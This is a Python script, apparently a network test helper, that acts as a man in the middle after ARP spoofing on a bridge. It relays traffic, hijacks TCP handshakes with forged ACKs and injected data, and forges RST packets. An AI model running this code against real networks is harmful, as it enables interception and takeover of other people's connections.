# SPDX-License-Identifier: Apache-2.0
"""A pod on a bridge to which others send by mistake, since it has forged their ARP: meddler.py MODE ADDRESS=MAC ADDRESS=MAC PORT.

relay: hand on to the two what each sends to the other. answer: hand on the first one's SYN; answer the second one's SYN-ACK in
the first one's place, and say something. reset: the same, a second after it has sent the first one away. A line on stdout for
each SYN, SYN-ACK, and packet with data that it sees."""
import socket
import struct
import sys
import time

ETH, SYN, RST, PSH, ACK = 14, 0x02, 0x04, 0x08, 0x10
SAYS = b"let me in\n"


def checksum(data):
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def summed(packet):
    """An IPv4 packet with TCP's checksum, which a link leaves to the next one."""
    packet = packet[:struct.unpack("!H", packet[2:4])[0]]
    tcp = packet[20:36] + b"\0\0" + packet[38:]
    pseudo = packet[12:20] + struct.pack("!BBH", 0, 6, len(tcp))
    return packet[:20] + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def segment(src, dst, ports, numbers, flags, data=b""):
    """An IPv4 packet with TCP in it."""
    tcp = struct.pack("!HHIIBBHHH", *ports, *numbers, 0x50, flags, 65000, 0, 0)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp) + len(data), 1, 0x4000, 64, 6, 0) + src + dst
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp + data


def main():
    """See above."""
    mode, port = sys.argv[1], int(sys.argv[4])
    macs = {socket.inet_aton(a): bytes.fromhex(m.replace(":", "")) for a, m in (word.split("=") for word in sys.argv[2:4])}
    server = socket.inet_aton(sys.argv[3].split("=")[0])
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    link.bind(("eth0", 0))
    own = link.getsockname()[4]

    def send(packet):
        link.send(macs[packet[16:20]] + own + b"\x08\0" + summed(packet))

    print("ready", flush=True)
    while True:
        frame, where = link.recvfrom(70000)
        packet = frame[ETH:]
        src, dst = packet[12:16], packet[16:20]
        if where[2] == socket.PACKET_OUTGOING or packet[9] != 6 or src not in macs or dst not in macs or len(packet) < 40:
            continue
        sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", packet[20:34])
        if port not in (sport, dport):
            continue
        length = struct.unpack("!H", packet[2:4])[0] - 20 - (offset >> 4) * 4
        if flags & SYN:
            print("syn-ack" if flags & ACK else "syn", flush=True)
        if length:
            print(f"data {length}", flush=True)
        if mode == "relay" or (flags & (SYN | ACK) == SYN and dst == server):
            send(packet)
        elif flags & SYN and src == server:
            if mode == "reset":
                send(segment(src, dst, (sport, dport), (seq, ack), RST | ACK))
                time.sleep(1)
            send(segment(dst, src, (dport, sport), (ack, seq + 1), ACK))
            send(segment(dst, src, (dport, sport), (ack, seq + 1), ACK | PSH, SAYS))


main()
